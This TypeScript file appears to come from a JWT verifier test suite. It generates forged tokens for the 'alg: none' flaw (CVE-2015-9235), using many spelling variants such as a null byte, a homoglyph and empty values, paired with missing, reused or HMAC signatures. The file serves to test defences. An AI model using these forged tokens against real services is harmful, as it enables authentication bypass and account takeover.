import { base64url, decode, hmac, parts } from '../tokens/forge.ts'
import { attack } from './attack.ts'

const SPELLINGS = [
  'none',
  'None',
  'NONE',
  'nOnE',
  'none ',
  ' none',
  'none\0',
  'n\u043ene',
  '',
  null,
  false,
  0,
  [],
  ['none'],
  {},
]

attack('RFC 8725 §2.1, CVE-2015-9235: `alg` none', (token) => {
  const { header } = decode(token)
  const [, payload, signature] = parts(token)
  const { alg: _, ...without } = header
  const headers = [...SPELLINGS.map((alg) => ({ ...header, alg })), without, { alg: 'none' }]
  return headers.flatMap((forged) => {
    const head = base64url(forged)
    const what = JSON.stringify(forged)
    return [
      { what: `${what}, no signature`, token: `${head}.${payload}.` },
      { what: `${what}, two parts`, token: `${head}.${payload}` },
      { what: `${what}, the live signature`, token: `${head}.${payload}.${signature}` },
      { what: `${what}, signed with the secret`, token: `${head}.${payload}.${hmac(`${head}.${payload}`)}` },
    ]
  })
})
